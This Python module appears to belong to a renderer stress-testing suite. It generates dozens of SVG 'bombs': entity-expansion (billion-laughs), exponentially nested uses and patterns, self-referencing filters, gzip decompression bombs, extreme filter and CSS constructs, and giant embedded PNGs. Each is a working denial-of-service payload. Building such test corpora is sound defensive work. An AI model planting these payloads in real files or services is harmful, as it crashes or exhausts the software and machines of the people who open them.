"""Bombs in SVG: entities, references, filters, layers, paths, style sheets, embedded pictures."""

import base64

from packing import gzipped_zeros, png

HEAD = ('<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink"'
        ' width="100" height="100">')
RECT = '<rect width="100" height="100" fill="red"'


def svg(*parts: str) -> bytes:
    return (HEAD + "".join(parts) + "</svg>").encode()


def filtered(primitives: str, region: str = "", count: int = 1) -> bytes:
    return svg(f'<filter id="f" {region}>{primitives}</filter>', (RECT + ' filter="url(#f)"/>') * count)


def doubling(kind: str, levels: int, attribute: str = "") -> bytes:
    """Each level uses the one before ten times."""
    parts = [f'<g id="a0">{RECT}/></g>']
    for level in range(1, levels):
        parts.append(f'<g id="a{level}">' + f'<use xlink:href="#a{level - 1}" {attribute}/>' * 10 + "</g>")
    return svg("<defs>", *parts, "</defs>", f'<use xlink:href="#a{levels - 1}"/>')


def servers(kind: str, levels: int) -> bytes:
    """Patterns, masks or clip paths, of which each has the one before, ten times."""
    attribute = {"pattern": "fill", "mask": "mask", "clipPath": "clip-path"}[kind]
    size = ' width="10" height="10" patternUnits="userSpaceOnUse"' if kind == "pattern" else ""
    parts = [f'<{kind} id="a0"{size}><rect width="9" height="9" fill="white"/></{kind}>']
    for level in range(1, levels):
        inner = f'<rect width="9" height="9" {attribute}="url(#a{level - 1})"/>' * 10
        parts.append(f'<{kind} id="a{level}"{size}>{inner}</{kind}>')
    return svg("<defs>", *parts, "</defs>", f'{RECT} {attribute}="url(#a{levels - 1})"/>')


def data_uri(kind: str, content: bytes) -> str:
    return f"data:{kind};base64," + base64.b64encode(content).decode()


def picture(kind: str, content: bytes, count: int = 1) -> bytes:
    image = f'<image id="i" width="100" height="100" xlink:href="{data_uri(kind, content)}"/>'
    return svg(image, '<use xlink:href="#i"/>' * (count - 1))


def nested_drawings(levels: int) -> bytes:
    inner = svg(RECT + "/>")
    for _ in range(levels):
        inner = picture("image/svg+xml", inner)
    return inner


def entities(levels: int) -> bytes:
    lines = ['<!ENTITY a0 "aaaaaaaaaa">']
    lines += [f'<!ENTITY a{n} "{f"&a{n - 1};" * 10}">' for n in range(1, levels)]
    return f"<!DOCTYPE svg [{''.join(lines)}]>{HEAD}<text>&a{levels - 1};</text></svg>".encode()


def structure():
    yield "entities, 10 to the 10th", "svg", lambda: entities(10)
    yield "uses of uses, 10 to the 9th", "svg", lambda: doubling("g", 10)
    yield "uses of uses with opacity, 10 to the 4th", "svg", lambda: doubling("g", 5, 'opacity=".9"')
    yield "a use of itself", "svg", lambda: svg('<g id="a"><use xlink:href="#a"/></g>')
    yield "100,000 groups within groups", "svg", lambda: svg("<g>" * 100_000, "</g>" * 100_000)
    yield "1,000 layers within layers", "svg", lambda: svg(
        '<g opacity=".9">' * 1_000, RECT + "/>", RECT + "/>", "</g>" * 1_000)
    yield "180 layers within layers", "svg", lambda: svg(
        ('<g opacity=".9">' + RECT + "/>") * 180, "</g>" * 180)
    yield "10,000 layers one after the other", "svg", lambda: svg(
        ('<g opacity=".9">' + RECT + "/>" * 1 + RECT + "/></g>") * 10_000)
    yield "1,000,000 elements", "svg", lambda: svg("<path d='M0 0h1v1z'/>" * 1_000_000)
    yield "10 MB of text", "svg", lambda: svg("<text>" + "abcdefgh " * 1_100_000 + "</text>")
    yield "letters 10,000,000 units high", "svg", lambda: svg(
        '<text font-size="10000000" x="-999999" y="500000">aaaaaaaa</text>')
    yield "5,000 texts along paths", "svg", lambda: svg(
        '<path id="p" d="' + "M0 0C9 9 9 9 99 99 " * 2_000 + '"/>',
        '<text><textPath xlink:href="#p">abcdefghijkl</textPath></text>' * 5_000)
    yield "packed, 10 GB of zeros", "svgz", lambda: gzipped_zeros(10 << 30)
    yield "packed, 200 MB of spaces", "svgz", lambda: gzipped_zeros(200 << 20, HEAD.encode(), b"</svg>")
    for kind in ("pattern", "mask", "clipPath"):
        yield f"{kind}s of {kind}s, 10 to the 6th", "svg", lambda kind=kind: servers(kind, 7)
    yield "a pattern of 0.001 units", "svg", lambda: svg(
        '<pattern id="p" width=".001" height=".001" patternUnits="userSpaceOnUse"><circle r="1"/></pattern>',
        RECT.replace("red", "url(#p)") + "/>")
    yield "a pattern of 1,000,000 units", "svg", lambda: svg(
        '<pattern id="p" width="1000000" height="1000000" patternUnits="userSpaceOnUse"><circle r="1"/></pattern>',
        RECT.replace("red", "url(#p)") + "/>")


def painting():
    yield "dashes of 0.00001 units", "svg", lambda: svg(
        '<path d="M0 0H100V100H0Z" stroke="red" stroke-dasharray=".00001"/>')
    yield "dashes of 0.01 units on 20,000 lines", "svg", lambda: svg(
        '<path stroke-dasharray=".01" stroke="red" d="' + "M0 0H100" * 20_000 + '"/>')
    yield "500 kB of dashes for 2,000 lines", "svg", lambda: svg(
        f'<g stroke="red" stroke-dasharray="{"1 " * 250_000}">', "<path d='M0 0h9'/>" * 2_000, "</g>")
    yield "500 kB of dashes for 2,000 uses", "svg", lambda: svg(
        f'<g stroke="red" stroke-dasharray="{"1 " * 250_000}"><path id="z" d="M0 0h9"/>',
        '<use xlink:href="#z"/>' * 2_000, "</g>")
    yield "100 bytes of dashes for 500,000 lines", "svg", lambda: svg(
        f'<g stroke="red" stroke-dasharray="{"1 " * 50}">', "<path d='M0 0h9'/>" * 500_000, "</g>")
    yield "markers on 100,000 points", "svg", lambda: svg(
        '<marker id="m" markerWidth="99" markerHeight="99"><circle r="50"/></marker>',
        '<path marker-mid="url(#m)" d="M0 0' + "l1 1" * 100_000 + '"/>')
    yield "markers within markers", "svg", lambda: svg(
        '<marker id="m"><path marker-mid="url(#m)" d="M0 0' + "l1 1" * 1_000 + '"/></marker>',
        '<path marker-mid="url(#m)" d="M0 0' + "l1 1" * 1_000 + '"/>')
    yield "a path of 2,000,000 curves", "svg", lambda: svg(
        '<path stroke="red" stroke-width="9" d="M0 0' + "c9 9 -9 99 1 -1" * 2_000_000 + '"/>')
    yield "a path far outside", "svg", lambda: svg(
        '<path stroke="red" stroke-width="1e9" d="M-1e9 -1e9C1e9 1e9 -1e9 1e9 1e9 -1e9z"/>' * 1_000)
    yield "2,000 pictures as large as the drawing, turned", "svg", lambda: svg(
        (RECT + ' transform="rotate(1)" opacity=".5"/>') * 2_000)
    yield "a gradient of 1,000,000 stops", "svg", lambda: svg(
        '<linearGradient id="g">' + '<stop offset=".5" stop-color="red"/>' * 1_000_000 + "</linearGradient>",
        RECT.replace("red", "url(#g)") + "/>")
    yield "a gradient of 300,000 stops, beside a sheet", "svg", lambda: svg(
        '<style>a{}</style><linearGradient id="g">' + "<stop/>" * 300_000 + "</linearGradient>",
        RECT.replace("red", "url(#g)") + "/>")
    yield "20,000 gradients after one of 80,000 elements", "svg", lambda: svg(
        '<style>a{}</style><linearGradient id="t">' + "<a/>" * 80_000 + "</linearGradient>",
        *(f'<linearGradient id="g{n}" xlink:href="#t"/>' for n in range(20_000)),
        RECT.replace("red", "url(#g1)") + "/>")
    yield "a switch of 30,000 children without one that is met", "svg", lambda: svg(
        "<switch>", '<linearGradient id="g" requiredExtensions="x"/><g requiredExtensions="x"/>' * 15_000, "</switch>")
    yield "10,000 gradients that follow one another", "svg", lambda: svg(
        '<linearGradient id="g0"><stop offset=".5" stop-color="red"/></linearGradient>',
        *(f'<linearGradient id="g{n}" xlink:href="#g{n - 1}"/>' for n in range(1, 10_000)),
        RECT.replace("red", "url(#g9999)") + "/>")


def filters():
    wide = 'x="-1e6" y="-1e6" width="2e6" height="2e6" filterUnits="userSpaceOnUse"'
    yield "noise of 1,000,000 octaves", "svg", lambda: filtered(
        '<feTurbulence baseFrequency=".1" numOctaves="1000000"/>')
    yield "noise of 10 octaves, 500 times", "svg", lambda: filtered(
        '<feTurbulence baseFrequency=".1" numOctaves="10"/>', count=500)
    yield "a filter 2,000,000 units wide", "svg", lambda: filtered(
        '<feGaussianBlur stdDeviation="5"/>', wide)
    yield "a blur of 1,000,000 units", "svg", lambda: filtered('<feGaussianBlur stdDeviation="1e6"/>')
    yield "morphology of 1,000,000 units", "svg", lambda: filtered(
        '<feMorphology operator="dilate" radius="1e6"/>')
    yield "morphology of 50 units", "svg", lambda: filtered('<feMorphology operator="dilate" radius="50"/>')
    yield "a matrix of 500 by 500", "svg", lambda: filtered(
        f'<feConvolveMatrix order="500" kernelMatrix="{"1 " * 250_000}"/>')
    yield "10,000 primitives", "svg", lambda: filtered('<feGaussianBlur stdDeviation="5"/>' * 10_000)
    yield "a filter of 1,000 primitives, 1,000 times", "svg", lambda: filtered(
        '<feOffset dx="1"/>' * 1_000, count=1_000)
    yield "light on 200 layers", "svg", lambda: filtered(
        '<feDiffuseLighting surfaceScale="9"><fePointLight x="9" y="9" z="9"/></feDiffuseLighting>' * 200)
    yield "transfer tables of 1,000,000 values", "svg", lambda: filtered(
        f'<feComponentTransfer><feFuncR type="table" tableValues="{"0 1 " * 500_000}"/></feComponentTransfer>')
    yield "filters within filters", "svg", lambda: svg(
        '<filter id="f"><feGaussianBlur stdDeviation="9"/></filter>',
        '<g filter="url(#f)">' * 180, RECT + "/>", "</g>" * 180)
    yield "a filter that shows itself", "svg", lambda: svg(
        '<filter id="f"><feImage xlink:href="#r"/></filter>',
        '<rect id="r" width="9" height="9" filter="url(#f)"/>')
    yield "merging 100,000 layers", "svg", lambda: filtered(
        "<feMerge>" + '<feMergeNode in="SourceGraphic"/>' * 100_000 + "</feMerge>")
    yield "tiles of a thousandth unit", "svg", lambda: filtered(
        '<feFlood x="0" y="0" width=".001" height=".001" flood-color="red"/><feTile/>')


def styles():
    classes = " ".join(f"c{n}" for n in range(200))
    yield "20,000 rules for 20,000 elements", "svg", lambda: svg(
        "<style>", *(f".c{n} {{fill:red}}" for n in range(20_000)), "</style>",
        *(f'<path class="c{n}" d="M0 0h1v1z"/>' for n in range(20_000)))
    yield "selectors of 2,000 ancestors on 2,000 levels", "svg", lambda: svg(
        "<style>", ("g " * 180 + "x {fill:red}") * 500, "</style>", "<g>" * 180,
        "<path d='M0 0h1v1z'/>" * 2_000, "</g>" * 180)
    yield "1,000 siblings selected by all before them", "svg", lambda: svg(
        "<style>", ("a ~ " * 60 + "b {fill:red}") * 100, "</style>", "<a/>" * 5_000)
    yield "10,000 imports", "svg", lambda: svg(
        "<style>", "@import url(data:text/css,a{fill:red});" * 10_000, "</style>", RECT + "/>")
    yield "variables of variables, 10 to the 10th", "svg", lambda: svg(
        "<style>:root{--a0:xxxxxxxxxx;", *(f"--a{n}:{f'var(--a{n - 1})' * 10};" for n in range(1, 11)),
        "fill:var(--a10)}</style>", RECT + "/>")
    yield "sums within sums, 100,000 deep", "svg", lambda: svg(
        "<style>rect{stroke-width:calc(" + "(" * 100_000 + "1" + ")" * 100_000 + ")}</style>", RECT + "/>")
    yield "10,000 elements of 200 classes, 1,000 rules", "svg", lambda: svg(
        "<style>", *(f".c{n}.c{n % 7}.c{n % 11} {{fill:red}}" for n in range(1_000)), "</style>",
        f'<path class="{classes}" d="M0 0h1v1z"/>' * 10_000)
    for condition in ("@media", "@supports"):
        for words in ("(", "not "):
            yield f"{condition} with 30,000 times {words.strip()}", "svg", lambda condition=condition, words=words: svg(
                f"<style>{condition} ", words * 30_000, "(fill:red){rect{fill:red}}</style>", RECT + "/>")
    yield "a selector of 30,000 :not(*)", "svg", lambda: svg(
        "<style>rect", ":not(*)" * 30_000, "{fill:red}</style>", RECT + "/>")
    yield "a selector of 30,000 siblings", "svg", lambda: svg(
        "<style>rect", "+rect" * 30_000, "{fill:red}</style>", (RECT + "/>") * 1_000)
    yield "lists of 12 layers, 7 deep", "svg", lambda: svg(
        "<style>", "@layer a,b,c,d,e,f,g,h,i,j,k,l{" * 7, "rect{fill:red}", "}" * 7, "</style>", RECT + "/>")
    yield "variables of variables without a value, 8 to the 12th", "svg", lambda: svg(
        "<style>svg{", *(f"--a{n}:{f'var(--a{n - 1},) ' * 8};" for n in range(1, 13)), "}</style>", RECT + "/>")
    yield "40,000 uses with variables", "svg", lambda: svg(
        "<style>g{--c:red}</style><defs><path id='z' d='M0 0h1v1z' fill='var(--c)'/></defs><g>",
        '<use href="#z"/>' * 40_000, "</g>")
    yield "a path of 100 kB for 10,000 elements", "svg", lambda: svg(
        "<style>path{d:path('M0 0", "L1 1" * 25_000, "')}</style>", "<path/>" * 10_000)
    yield "1,000,000 addresses that are never closed", "svg", lambda: svg(
        RECT, ' style="fill:' + "url(" * 1_000_000 + '"/>')
    yield "1,000,000 addresses in a sheet that are never closed", "svg", lambda: svg(
        "<style>rect{fill:", "url(#" * 1_000_000, "</style>", RECT + "/>")
    yield "200,000 addresses in one value", "svg", lambda: svg(
        "<style>rect{fill:", "url(#a) " * 200_000, "}</style>", (RECT + "/>") * 100)
    yield "300,000 brackets around an address", "svg", lambda: svg(
        "<style>rect{fill:", "a(" * 300_000, "url(#a)", ")" * 300_000, "}</style>", (RECT + "/>") * 100)
    yield "500 kB of families for 2,000 texts", "svg", lambda: svg(
        f'<g font-family="{"a," * 250_000}b">', "<text>a</text>" * 2_000, "</g>")
    yield "an unclosed style sheet of 10 MB", "svg", lambda: svg("<style>a{b:c(" + "[{(" * 3_000_000 + "</style>")


def pictures():
    yield "a PNG of 268 MP", "svg", lambda: picture("image/png", png(16_383, 16_383))
    yield "the same PNG of 64 MP 1,000 times", "svg", lambda: picture("image/png", png(8_000, 8_000), 1_000)
    many = data_uri("image/png", png(4_000, 4_000))
    yield "200 PNG of 16 MP", "svg", lambda: svg(
        f'<image width="100" height="100" xlink:href="{many}"/>' * 200)
    yield "drawings within drawings, 20 deep", "svg", lambda: nested_drawings(20)
    inner = data_uri("image/svg+xml", doubling("g", 5))
    yield "100 drawings of 10,000 uses", "svg", lambda: svg(
        f'<image width="100" height="100" xlink:href="{inner}"/>' * 100)
    packed = data_uri("image/svg+xml", gzipped_zeros(60 << 20, HEAD.encode(), b"</svg>"))
    yield "100 packed drawings of 60 MB", "svg", lambda: svg(
        f'<image width="100" height="100" xlink:href="{packed}"/>' * 100)


def bombs():
    for family in (structure, painting, filters, styles, pictures):
        for name, end, make in family():
            yield f"SVG, {name}", end, make
